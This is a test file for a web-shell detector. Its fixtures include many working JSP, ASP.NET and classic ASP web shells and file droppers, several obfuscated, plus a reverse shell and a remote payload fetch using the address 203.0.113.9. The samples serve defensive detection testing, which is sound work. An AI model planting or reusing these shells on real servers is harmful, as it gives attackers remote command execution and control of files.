import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { testGrammars } from '../../../../../test/grammars.ts'
import { verdictOf, weighed } from '../score.ts'
import type { Grammars } from '../syntax.ts'
import type { Verdict } from '../verdict.ts'
import { examinePage } from './examine.ts'
import { pageKindsOf } from './kinds.ts'

let grammars: Grammars
beforeAll(async () => {
  grammars = await testGrammars()
})

function judged(path: string, text: string) {
  const [kind] = pageKindsOf(path, text)
  if (kind === undefined) return { verdict: 'clean', score: 0, reasons: [], language: 'none' }
  const { language, observed, page, signs } = examinePage(kind, { path, text, bytes: new TextEncoder().encode(text) }, grammars)
  return { ...verdictOf([...(observed ? weighed(observed, page) : []), ...signs]), language }
}

const bytes = (text: string) => [...text].map(char => char.charCodeAt(0)).join(',')
const escaped = (text: string) => [...text].map(char => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
const chrs = (text: string, join: string) => [...text].map(char => `chr(${char.charCodeAt(0)})`).join(join)

type Row = readonly [name: string, path: string, text: string, verdict: string]

const JAVA: readonly Row[] = [
  ['a command', 'a.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', 'web-shell'],
  [
    'a list of words',
    'a.jsp',
    '<% String c = request.getHeader("c");\nString[] w = {"/bin/sh", "-c", c};\nnew ProcessBuilder(w).start(); %>',
    'web-shell',
  ],
  // CISA AA23-144A, "EncryptJSP": words as numbers, AES around everything.
  [
    'words in lists of bytes, and a cipher',
    'selfsdp.jspx',
    `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet><![CDATA[\nString k = new String(new byte[]{${bytes('0123456789abcdef')}});\nCipher x = Cipher.getInstance("AES/CBC/PKCS5Padding");\nx.init(2, new SecretKeySpec(k.getBytes(), "AES"));\nString a = new String(x.doFinal(Base64.getDecoder().decode(request.getParameter("d"))));\nnew ProcessBuilder(new String(new byte[]{${bytes('cmd')}}), new String(new byte[]{47, 67}), a).start();\n]]></jsp:scriptlet></jsp:root>`,
    'web-shell',
  ],
  [
    'character data in pieces',
    'a.jspx',
    '<jsp:root version="2.0"><jsp:scriptlet>Run<![CDATA[time.getRun]]>time().exec(request.getParameter(&quot;c&quot;));</jsp:scriptlet></jsp:root>',
    'web-shell',
  ],
  [
    'another prefix',
    'a.jspx',
    '<x:root xmlns:x="http://java.sun.com/JSP/Page" version="2.0"><x:scriptlet>Runtime.getRuntime().exec(request.getParameter("c"));</x:scriptlet></x:root>',
    'web-shell',
  ],
  [
    'an entity of its own',
    'a.jspx',
    '<!DOCTYPE r [<!ENTITY go "Runtime.getRuntime().exec">]><jsp:root version="2.0"><jsp:scriptlet>&go;(request.getParameter("c"));</jsp:scriptlet></jsp:root>',
    'web-shell',
  ],
  ['Unicode escapes', 'a.jsp', `<% ${escaped('Runtime.getRuntime().exec(request.getParameter("c"));')} %>`, 'web-shell'],
  [
    'a line end in a comment',
    'a.jsp',
    '<% // nothing \\u000a Runtime.getRuntime().exec(request.getParameter("c")); %>',
    'web-shell',
  ],
  [
    'a method of the page',
    'a.jsp',
    '<%! String run(String w) throws Exception { return new java.util.Scanner(Runtime.getRuntime().exec(w).getInputStream()).next(); } %><%= this.run(request.getParameter("c")) %>',
    'web-shell',
  ],
  [
    'reflection',
    'a.jsp',
    '<% Class r = Class.forName("java.lang.Run" + "time");\nObject o = r.getMethod("getRun" + "time").invoke(null);\nr.getMethod("ex" + "ec", String.class).invoke(o, request.getParameter("c")); %>',
    'web-shell',
  ],
  [
    'characters counted',
    'a.jsp',
    "<% char[] n = new char[]{(char)(100 + 1), (char) 120, 'e', (char)('d' - 1)};\nRuntime r = Runtime.getRuntime();\nr.getClass().getMethod(new String(n), String.class).invoke(r, request.getParameter(\"c\")); %>",
    'web-shell',
  ],
  // The loaders of encrypted clients: a class of the request, unpacked with a constant key.
  [
    'a class of the request',
    'a.jsp',
    '<%! class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% String k = "0123456789abcdef"; session.putValue("u", k);\nCipher c = Cipher.getInstance("AES"); c.init(2, new SecretKeySpec((session.getValue("u") + "").getBytes(), "AES"));\nnew U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext); %>',
    'web-shell',
  ],
  [
    'a class by reflection',
    'a.jsp',
    '<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k"));\njava.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);\nm.setAccessible(true);\n((Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length)).newInstance(); %>',
    'web-shell',
  ],
  [
    'a script engine',
    'a.jsp',
    '<%= new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("x")) %>',
    'web-shell',
  ],
  [
    'the expression language',
    'a.jsp',
    '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(param.c)}',
    'web-shell',
  ],
  [
    'classes of another server',
    'a.jsp',
    '<% new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(request.getParameter("u"))}).loadClass("A").newInstance(); %>',
    'web-shell',
  ],
  // CISA AA23-144A, "ShellJSP": command, path and content as parameters.
  [
    'any file',
    'a.jsp',
    '<% new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f")).write(request.getParameter("t").getBytes()); %>',
    'uploader',
  ],
  [
    'a page that writes a page',
    'a.jsp',
    '<% java.io.FileWriter w = new java.io.FileWriter(application.getRealPath("/x.jsp")); w.write("<%= 1 %\\>"); w.close(); %>',
    'dropper',
  ],
  [
    'a tunnel',
    'a.jsp',
    '<% java.net.Socket s = new java.net.Socket(request.getParameter("h"), 22); s.getOutputStream().write(request.getParameter("d").getBytes()); Process p = null; %><!-- regeorg -->',
    'web-shell',
  ],
  [
    'a shell that calls back',
    'a.jsp',
    '<% java.net.Socket s = new java.net.Socket("203.0.113.9", 4444); Process p = Runtime.getRuntime().exec("/bin/sh"); %>',
    'web-shell',
  ],
]

const NET: readonly Row[] = [
  ['JScript', 'a.aspx', '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>', 'web-shell'],
  [
    'JScript with a built text',
    'a.aspx',
    '<%@ Page Language="Jscript"%><% var e = eval; e(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String("UmVxdWVzdC5JdGVtWyJ4Il0=")) + Request.Item["z"]); %>',
    'web-shell',
  ],
  [
    'a handler in JScript',
    'a.ashx',
    '<%@ WebHandler Language="JScript" class="H"%>import System;import System.Web;public class H implements IHttpHandler{function IHttpHandler.ProcessRequest(context : HttpContext){ eval(context.Request["x"]); }}',
    'web-shell',
  ],
  [
    'a process',
    'a.aspx',
    '<%@ Page Language="C#" %><script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["q"])));\n  System.Diagnostics.Process.Start(p);\n}</script>',
    'web-shell',
  ],
  // "Awen": a text box, a button, and AES both ways (Volt Typhoon's variant).
  [
    'a text box and a cipher',
    'iisstart.aspx',
    '<%@ Page Language="C#" %><script runat="server">\nstring Open(string t) { var a = new RijndaelManaged(); var d = a.CreateDecryptor(Encoding.ASCII.GetBytes("0123456789abcdef"), new byte[16]); var b = Convert.FromBase64String(t); return Encoding.UTF8.GetString(d.TransformFinalBlock(b, 0, b.Length)); }\nstring Run(string arg) { ProcessStartInfo psi = new ProcessStartInfo(); psi.FileName = "cmd.exe"; psi.Arguments = "/c " + arg; return Process.Start(psi).StandardOutput.ReadToEnd(); }\nvoid Go(object s, EventArgs e) { Response.Write(this.Run(this.Open(q1.Text))); }</script><asp:TextBox id="q1" runat="server"/>',
    'web-shell',
  ],
  [
    'an object initialiser',
    'a.aspx',
    '<%@ Page Language="C#" %><% var p = new Process { StartInfo = new ProcessStartInfo { FileName = "cmd", Arguments = Request["a"] } }; p.Start(); %>',
    'web-shell',
  ],
  [
    'an assembly of the request',
    'a.ashx',
    '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext context) { byte[] b = Convert.FromBase64String(context.Request["k"]); System.Reflection.Assembly.Load(b).CreateInstance("P"); } }',
    'web-shell',
  ],
  [
    'an assembly by reflection',
    'a.aspx',
    '<%@ Page Language="C#" %><% typeof(System.Reflection.Assembly).GetMethod("Lo" + "ad", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { Convert.FromBase64String(Request["k"]) }); %>',
    'web-shell',
  ],
  [
    'a web service',
    'a.asmx',
    '<%@ WebService Language="C#" Class="S" %>\npublic class S : WebService { [WebMethod] public string Go(string q) { return Process.Start("cmd.exe", "/c " + q).Id.ToString(); } }',
    'web-shell',
  ],
  [
    'a compiler',
    'a.aspx',
    '<%@ Page Language="C#" %><% var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), Request["s"]); %>',
    'web-shell',
  ],
  [
    'Visual Basic',
    'a.aspx',
    '<%@ Page Language="VB" %><script runat="server">\nSub Page_Load()\n  Dim p As New Process()\n  p.StartInfo.FileName = "cmd.exe"\n  p.StartInfo.Arguments = "/c " & Request.Form("c")\n  p.Start()\nEnd Sub\n</script>',
    'web-shell',
  ],
  [
    'Visual Basic by With',
    'a.aspx',
    '<%@ Page Language="VB" %><script runat="server">\nPrivate Function Go(ByVal q As String) As String\n  Dim i As New ProcessStartInfo\n  With i\n    .FileName = "cmd"\n    .Arguments = "/c " & q\n  End With\n  Return Process.Start(i).StandardOutput.ReadToEnd()\nEnd Function\nSub Page_Load(s As Object, e As EventArgs)\n  Response.Write(Me.Go(Request("q")))\nEnd Sub\n</script>',
    'web-shell',
  ],
  [
    'any file',
    'a.aspx',
    '<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Server.MapPath(Request["p"]), Request["d"]); %>',
    'uploader',
  ],
  [
    'an upload under any name',
    'a.aspx',
    '<%@ Page Language="C#" %><% Request.Files[0].SaveAs(Server.MapPath(Request["f"])); %>',
    'uploader',
  ],
  [
    'a handler that writes a page',
    'a.ashx',
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.IO;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext context) { StreamWriter w = File.CreateText(context.Server.MapPath("q.asp")); w.Write("<%=1%\\u003e"); w.Close(); } }',
    'dropper',
  ],
  [
    'code in a style sheet',
    'a.xslt',
    '<xsl:stylesheet version="1.0" xmlns:msxsl="urn:schemas-microsoft-com:xslt"><msxsl:script language="JScript" implements-prefix="z"><msxsl:assembly name="System.Web"/> function x() { eval(System.Web.HttpContext.Current.Request.Item["a"], "unsafe"); } </msxsl:script></xsl:stylesheet>',
    'web-shell',
  ],
]

const ASP: readonly Row[] = [
  ['VBScript', 'a.asp', '<%eval request("x")%>', 'web-shell'],
  ['VBScript in a picture', 'a.jpg', 'GIF89a<% ExecuteGlobal(Request.Form("x")) %>', 'web-shell'],
  ['letters as numbers', 'a.asp', `<% execute(${chrs('eval request("x")', '&')}) %>`, 'web-shell'],
  ['text backwards', 'a.asp', '<% execute strreverse(")""x""(tseuqer lave") %>', 'web-shell'],
  ['UTF-7', 'a.asp', '<%@codepage=65000%><%e+k-v+k-a+k-l r+k-e+k-q+k-u+k-e+k-s+k-t("x")%>', 'web-shell'],
  [
    'a function that unpacks',
    'a.asp',
    '<%\nFunction d(s)\n  For i = 1 To Len(s)\n    d = d & Chr(Asc(Mid(s, i, 1)) - 1)\n  Next\nEnd Function\nExecute d("fwbm!sfrvftu)#y#*")\n%>',
    'web-shell',
  ],
  ['evaluated twice', 'a.asp', '<%eval(eval("request")("x"))%>', 'web-shell'],
  [
    'a shell object',
    'a.asp',
    '<%\nDim s, c\nc = Request.Form("c")\nSet s = Server.CreateObject("WSc" & "ript.Sh" & "ell")\nSet e = s.Exec("cmd /c " & c)\nResponse.Write e.StdOut.ReadAll\n%>',
    'web-shell',
  ],
  [
    'an object of the markup',
    'a.asp',
    '<object runat="server" id="o" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><% o.Run Request("c") %>',
    'web-shell',
  ],
  [
    'a script engine',
    'a.asp',
    '<% Set o = Server.CreateObject("ScriptControl")\no.Language = "vbscript"\no.AddCode(Request("x"))\n%>',
    'web-shell',
  ],
  ['JScript', 'a.asp', '<%@ Language="JScript" %><% eval(Request.Item("x") + ""); %>', 'web-shell'],
  [
    'JScript by another name',
    'a.asp',
    '<script runat="server" language="JScript">var f = {"e": eval}; f.e(Request.Form("x") + "");</script>',
    'web-shell',
  ],
  [
    'a file',
    'a.asp',
    '<% Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath(Request("p")))\nf.Write Request("d") %>',
    'uploader',
  ],
  [
    'a file of another server',
    'a.asp',
    '<% Set x = CreateObject("Microsoft.XMLHTTP")\nx.Open "GET", "http://203.0.113.9/a.txt", False\nx.Send\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write x.responseBody\ns.SaveToFile Server.MapPath("a.asp"), 2 %>',
    'dropper',
  ],
]

describe('finds', () => {
  test.each([...JAVA, ...NET, ...ASP])('%s (%s)', (_name, path, text, verdict) => {
    const { verdict: found, reasons } = judged(path, text)
    expect({ found, because: reasons[0]?.what }).toEqual({ found: verdict, because: reasons[0]?.what })
    expect(reasons[0]?.line).toBeGreaterThan(0)
  })

  test('says the way from the request to the command', () => {
    const { reasons } = judged(
      'a.jsp',
      '<%\nString c = request.getParameter("c");\n\nString d = "x" + c;\nRuntime.getRuntime().exec(c);\n%>',
    )
    expect(reasons[0]?.flow?.map(({ line, what }) => `${line} ${what}`)).toEqual([
      '2 request.getParameter(c)',
      '2 kept in c',
      '5 Runtime.exec()',
    ])
  })
})

const ORDINARY: readonly (readonly [name: string, path: string, text: string])[] = [
  [
    'a page with JDBC',
    'a.jsp',
    '<%@ page import="java.sql.*" %><%\nPreparedStatement s = c.prepareStatement("select * from t where id = ?");\ns.setString(1, request.getParameter("id"));\nResultSet rs = s.executeQuery();\nexecutor.execute(task);\nif ("go".equals(request.getParameter("do"))) { out.println(rs.getString(1)); }\n%>',
  ],
  [
    'tags of a framework',
    'a.jsp',
    '<%@ taglib prefix="s" uri="/struts-tags" %><%@ taglib prefix="c" uri="jakarta.tags.core" %><c:if test="${param.size() gt 0}"><s:property value="name"/>${fn:escapeXml(param.q)}</c:if>',
  ],
  [
    'a tag file',
    'a.tag',
    '<%@ tag body-content="scriptless" %><%@ attribute name="q" %><% String v = (String) jspContext.getAttribute("q"); out.print(v.trim()); %>',
  ],
  [
    'a comment',
    'b.jsp',
    '<%-- Runtime.getRuntime().exec(request.getParameter("c")) --%><% // new ProcessBuilder(request.getParameter("c"))\nout.print("x"); %>',
  ],
  [
    'a fixed command',
    'c.jsp',
    '<% String q = request.getParameter("q"); Process p = Runtime.getRuntime().exec("uptime"); out.println(q); %>',
  ],
  [
    'reflection on a bean',
    'd.jsp',
    '<% String v = request.getParameter("v"); Object o = application.getAttribute("bean"); java.lang.reflect.Method m = o.getClass().getMethod("setName", String.class); m.invoke(o, v); %>',
  ],
  [
    'an upload page',
    'e.jsp',
    '<%@ page import="java.io.*" %><% Part p = request.getPart("f"); String n = java.util.UUID.randomUUID() + ".png"; p.write("/srv/files/" + n); %>',
  ],
  [
    'a cipher for a cookie',
    'f.jsp',
    '<% Cipher c = Cipher.getInstance("AES/GCM/NoPadding"); c.init(2, key); String t = new String(c.doFinal(Base64.getDecoder().decode(request.getParameter("t")))); if (t.equals("ok")) out.print("yes"); %>',
  ],
  ['a list of numbers', 'g.jsp', '<% byte[] b = new byte[]{99,109,100}; int[] p = {80, 443}; out.print(b.length + p[0]); %>'],
  [
    'a site in JavaScript',
    'h.jsp',
    '<script>var t = `${eval("1")}`; function run(x) { return eval(x); }</script><% out.print(1); %>',
  ],
  [
    'data binding',
    'list.aspx',
    '<%@ Page Language="C#" %><asp:Repeater runat="server"><ItemTemplate><%# Eval("Name") %></ItemTemplate></asp:Repeater>',
  ],
  [
    'a sign-in page',
    'login.aspx',
    '<%@ Page Language="C#" %><script runat="server">\nvoid SignIn(object s, EventArgs e) {\n  var name = Request.Form["name"];\n  using (var command = new SqlCommand("select id from c where n = @n")) { command.Parameters.AddWithValue("@n", name); command.ExecuteScalar(); }\n}</script>',
  ],
  [
    'an upload into a fixed folder',
    'upload.aspx',
    '<%@ Page Language="C#" %><script runat="server">\nvoid Save(object s, EventArgs e) { var name = Guid.NewGuid() + ".png"; Notice.SaveAs(Server.MapPath("/files/" + name)); }</script><asp:FileUpload id="Notice" runat="server"/>',
  ],
  [
    'a web hook',
    'hook.ashx',
    '<%@ WebHandler Language="C#" Class="Hook" %>\npublic class Hook : IHttpHandler { public void ProcessRequest(HttpContext context) { var body = new StreamReader(context.Request.InputStream).ReadToEnd(); Queue.Add(body, context.Request.Headers["X-Signature"]); } }',
  ],
  [
    'a fixed process',
    'report.aspx',
    '<%@ Page Language="C#" %><% var p = new ProcessStartInfo("report.exe", "/id " + int.Parse(Request["id"])); Process.Start(p); %>',
  ],
  [
    'a module of a portal',
    'view.ascx',
    '<%@ Control Language="C#" Inherits="Portal.Modules.View" CodeBehind="View.ascx.cs" %><script runat="server">protected override void OnLoad(EventArgs e) { Title.Text = Server.HtmlEncode(Request.QueryString["title"]); var t = Type.GetType("Portal.Modules.View"); var m = t.GetMethod("Show"); m.Invoke(this, null); }</script>',
  ],
  [
    'Visual Basic',
    'n.aspx',
    '<%@ Page Language="VB" %><script runat="server">\nSub Page_Load()\n  If IsNumeric(Request("id")) Then\n    Dim id As Integer = CInt(Request("id"))\n    grid.DataSource = Load(id)\n  End If\nEnd Sub\n</script>',
  ],
  [
    'an administration page with a database',
    'admin.asp',
    '<%\nDim conn, rs\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open Application("dsn")\nconn.Execute("update t set n = \'" & Replace(Request("n"), "\'", "\'\'") & "\' where id = " & CLng(Request("id")))\nSet rs = conn.Execute("select * from t where n like \'%" & Request.QueryString("q") & "%\'")\nDo While Not rs.EOF\n  Response.Write Server.HTMLEncode(rs("n"))\n  rs.MoveNext\nLoop\n%>',
  ],
  [
    'a counter in a file',
    'count.asp',
    '<%\nSet fso = CreateObject("Scripting.FileSystemObject")\nSet f = fso.OpenTextFile(Server.MapPath("count.txt"), 2)\nf.Write CStr(CLng(n) + 1)\nf.Close\n%>',
  ],
  [
    'a comment of Basic',
    'b.asp',
    '<%\n\' eval request("x")\nRem execute request("y")\nIf Request("a") = "b" Then Response.Write "c"\n%>',
  ],
  [
    'a mail form',
    'mail.asp',
    '<%\nSet m = Server.CreateObject("CDO.Message")\nm.To = "office@site.example"\nm.TextBody = Request.Form("text")\nm.Send\n%>',
  ],
  [
    'JScript',
    'j.asp',
    '<%@ Language="JScript" %><% var n = parseInt(Request.QueryString("n")); var t = "a,b".split(","); Response.Write(t[n % 2]); %>',
  ],
  ['a page that includes', 'i.asp', '<!--#include file="db.inc"--><% Call Header(title)\nExecuteSql "select 1"\n%>'],
  ['an access log', 'access.log', '203.0.113.9 - - [15/Aug/2023:05:34:25 +1000] "GET /?c=ls HTTP/1.1" 200 1\n'],
]

/** What was missed at first, each beside what looks like it and is ordinary. */
const TWINS: readonly (readonly [name: string, path: string, text: string, verdict: Verdict, ordinary: string])[] = [
  [
    'a shell that waits for commands',
    'a.jsp',
    '<%! Process p; void start() throws Exception { p = Runtime.getRuntime().exec("cmd"); } %><% start(); p.getOutputStream().write(request.getParameter("c").getBytes()); %>',
    'web-shell',
    '<% Process p = Runtime.getRuntime().exec("/usr/bin/uptime"); %>',
  ],
  [
    'what is typed into a program',
    'a.ashx',
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostics; using System.Web; public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.Start(); p.StandardInput.WriteLine(context.Request["x"]); } }',
    'web-shell',
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostics; using System.Web; public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { Process p = new Process(); p.StartInfo.FileName = "sort.exe"; p.Start(); p.StandardInput.WriteLine("b"); } }',
  ],
  [
    'written and started',
    'a.asp',
    '<% Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("c:\\net.vbs", True)\nf.Write "Dim x"\nf.Close\nCreateObject("WScript.Shell").Run "c:\\net.vbs", 0, False %>',
    'dropper',
    '<% Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("count.txt"), True)\nf.Write "12"\nf.Close %>',
  ],
  [
    'a database of the visitor',
    'a.asp',
    '<% Set c = Server.CreateObject("ADODB.Connection")\nc.Open "driver={SQL Server};server=" & Request("s") & ";uid=" & Request("u") & ";pwd=" & Request("p")\nc.Execute Request("q") %>',
    'web-shell',
    '<% Set c = Server.CreateObject("ADODB.Connection")\nc.Open Application("db")\nSet r = c.Execute("select * from news where id=" & CLng(Request("id"))) %>',
  ],
  [
    'orders to a service of the server itself',
    'a.asp',
    '<% Set a = Server.CreateObject("Microsoft.XMLHTTP")\na.Open "GET", "http://127.0.0.1:" & Request("port") & "/x", True, "", ""\na.Send "User " & Request("u") & vbCrLf & "site exec " & Request("c") %>',
    'web-shell',
    '<% Set a = Server.CreateObject("Microsoft.XMLHTTP")\na.Open "POST", "https://api.example/rates", False\na.Send "currency=" & Request("c")\nResponse.Write a.ResponseText %>',
  ],
  [
    'any folder and any file',
    'a.jsp',
    '<%@ page import="java.io.*" %><% File f = new File(request.getParameter("file")); if (f.isDirectory()) { for (File x : f.listFiles()) out.print(x); } else { FileInputStream in = new FileInputStream(f); out.print(in.read()); } %>',
    'web-shell',
    '<%@ page import="java.io.*" %><% File f = new File(application.getRealPath("/news")); for (File x : f.listFiles()) out.print(x.getName()); FileInputStream in = new FileInputStream(new File(f, "index.txt")); out.print(in.read()); %>',
  ],
  [
    'times of files',
    'a.jsp',
    '<% new java.io.File(request.getParameter("f")).setLastModified(Long.parseLong(request.getParameter("t"))); %>',
    'web-shell',
    '<% new java.io.File(application.getRealPath("/cache/a")).setLastModified(System.currentTimeMillis()); %>',
  ],
  [
    'hex digits made into bytes',
    'a.jsp',
    '<%! String un(String s) { byte[] b = new byte[s.length() / 2]; for (int i = 0; i < b.length; i++) b[i] = (byte) (0xff & Integer.parseInt(s.substring(i * 2, i * 2 + 2), 16)); return new String(b); } %><% Runtime.getRuntime().exec(un(request.getParameter("u"))); %>',
    'web-shell',
    '<% int colour = Integer.parseInt(request.getParameter("colour"), 16); out.print(colour); %>',
  ],
  [
    'a page in a text',
    'a.jsp',
    '<%! static final String P = "<%new java.io.RandomAccessFile(application.getRealPath(\\"/\\")+request.getParameter(\\"a\\"), \\"rw\\").write(request.getParameter(\\"b\\").getBytes());%"+">"; %><% new java.io.FileWriter(where()).write(P); %>',
    'dropper',
    '<%! static final String P = "<% out.print(request.getLocale()); %"+">"; %><% out.print(P.length()); %>',
  ],
  [
    'quotes of a word processor',
    'a.aspx',
    '<%@ Page Language=\u201cJscript\u201d %><%eval(Request.Item["p"],\u201cunsafe\u201d);%>',
    'web-shell',
    '<%@ Page Language="Jscript" %><% Response.Write("\u201c" + Server.HtmlEncode(Request.Item["p"]) + "\u201d"); %>',
  ],
  [
    'all traffic of the server',
    'a.aspx',
    '<%@ Page Language="C#" %><script runat="server">void Go() { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.IOControl(IOControlCode.ReceiveAll, a, b); }</script>',
    'web-shell',
    '<%@ Page Language="C#" %><script runat="server">void Go() { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Close(); }</script>',
  ],
]

const RAZOR: (typeof TWINS)[number] = [
  'a Razor page',
  'Pages/a.cshtml',
  '@using System.Diagnostics\n<p>mail info@example.org</p>\n@{ var c = Request["c"]; if (c != null) { <pre>@Process.Start("cmd.exe", "/c " + c)</pre> } }',
  'web-shell',
  '@model List<string>\n@{ ViewBag.Title = "News"; }\n@foreach (var item in Model) { <li>@Html.DisplayFor(m => item)</li> }\n<p>@Request["page"]</p>',
]

test.each([...TWINS, RAZOR])('%s (%s), and its twin', (_name, path, text, verdict, ordinary) => {
  expect(judged(path, text).verdict).toBe(verdict)
  expect(judged(path, ordinary).verdict).toBe('clean')
})

test.each(ORDINARY)('stays quiet: %s (%s)', (_name, path, text) => {
  const { verdict, reasons } = judged(path, text)
  expect({ verdict, because: reasons[0]?.what }).toEqual({ verdict: 'clean', because: reasons[0]?.what })
})

const PIECES = fc.constantFrom(
  ...'<%|%>|<%=|<%!|<%@ page language="java" %>|<%@ Page Language="C#" %>|<%@ Language="JScript" %>|<script runat="server">|</script>|<jsp:scriptlet>|<![CDATA[|]]>|&lt;|${|}|request|.getParameter("x")|("x")|["x"]|eval|exec|execute |(|)|{|[|]|;|=|.|,|\'|"|\\|\\u000a|//|/*|*/|+|&|-|new |byte[]{1,2}|String a = |class A { |void f(String b) { |return |for (int i = 0; i < 9; i++) |while (true) |if (a) |else |\n|:|Dim a|Set a = |Function f(x)|End Function|For i = 1 To 9|Next|With a|.b|End With|Select Case a|Case 1|End Select|Do|Loop|Try|Catch|chr(65)|_|#@~^AAAAAA==|AAAAAA==^#~@|x => |$"{a}"|@"|function (a) {|switch (a) { case 1:|/a[b/]/g'.split(
    '|',
  ),
)

test('any text ends without a throw', { timeout: 60_000 }, () => {
  fc.assert(
    fc.property(
      fc.constantFrom('a.asp', 'a.aspx', 'a.jsp', 'a.jspx', 'a.ashx'),
      fc.array(PIECES, { maxLength: 60 }),
      (path, list) => {
        judged(path, `<% ${list.join('')}`)
      },
    ),
    { numRuns: 300 },
  )
})

test.each([
  ['a.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); String s = '],
  ['a.aspx', '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request["c"]); string s = '],
])('a sum of thousands of texts is read in a loop: %s', (path, begin) => {
  for (const part of ['"a" + ', '(char)65 + ', 'f(1) + '])
    expect(judged(path, `${begin}${part.repeat(8000)}"z"; %>`).verdict).toBe('web-shell')
})

test('what is made to take long ends soon', { timeout: 60_000 }, () => {
  for (const [path, open] of [
    ['a.asp', '<% '],
    ['a.asp', '<%@ Language="JScript" %><% '],
    ['a.aspx', '<%@ Page Language="C#" %><% '],
    ['a.jsp', '<%! '],
  ] as const)
    for (const piece of [
      '(',
      '"',
      'a=',
      '[',
      'f(',
      '/*',
      'x.exec(',
      "'",
      '{',
      'a = b = ',
      'if (a) ',
      'not ',
      '- ',
      'a.b.',
      'For i = 1 To 9999\n',
      'while (a) { ',
      'function f(x) { f(x); ',
      '<%',
      '${',
    ])
      judged(path, open + piece.repeat(20_000 / piece.length))
})
